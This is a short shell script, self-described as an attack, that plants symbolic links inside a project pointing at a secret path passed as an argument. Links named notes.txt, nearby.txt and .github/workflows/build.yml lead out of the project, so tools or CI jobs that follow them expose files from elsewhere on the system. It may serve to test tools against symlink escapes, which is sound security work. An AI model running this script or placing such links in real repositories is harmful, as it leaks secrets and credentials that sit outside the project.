#!/bin/sh
# Lay links in this project that lead out of it: attack.sh SECRET
set -eu
ln -s "$1" notes.txt
ln -s "../$(basename "$1")" nearby.txt
mkdir -p .github/workflows
ln -s "$1" .github/workflows/build.yml
